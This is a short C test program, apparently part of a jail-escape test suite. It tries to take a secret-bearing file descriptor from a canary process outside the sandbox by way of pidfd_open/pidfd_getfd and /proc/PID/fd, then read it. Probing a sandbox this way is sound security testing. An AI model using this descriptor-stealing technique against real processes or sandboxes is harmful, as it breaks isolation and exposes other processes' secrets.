/* e0511-pidfd-getfd - take a descriptor from a process outside the jail.
 *
 * Attack: pidfd_getfd() duplicates a descriptor of another process into
 * the caller (with ptrace rights over it); /proc/PID/fd/N reopens it.  A
 * process outside the jail (the canary) holds the secret open as fd N:
 * take it, and read it from the start.
 * Source: janus team (DESIGN.md "reaching outside"; calls that name
 * another process); the review in jail-syscall-review.txt (descriptors
 * crossing the jail's boundary).
 * Usage: e0511-pidfd-getfd PID FD */
#include <fcntl.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "escape.h"

static void show_from_start(const char *label, long fd)
{
	if (fd >= 0)
		lseek((int)fd, 0, SEEK_SET);
	esc_show_fd(label, fd);
}

int main(int argc, char **argv)
{
	esc_need_args(argc, 3, "e0511-pidfd-getfd PID FD");
	int pid = (int)esc_number(argv[1]), fd = (int)esc_number(argv[2]);
	long pfd = syscall(SYS_pidfd_open, pid, 0);
	esc_show_result("pidfd_open(PID)", pfd);
	if (pfd >= 0)
		show_from_start("pidfd_getfd(PID, FD)", syscall(SYS_pidfd_getfd, (int)pfd, fd, 0));
	char p[64];
	snprintf(p, sizeof p, "/proc/%d/fd/%d", pid, fd);
	esc_try_read("open /proc/PID/fd/FD", p);
	return 0;
}
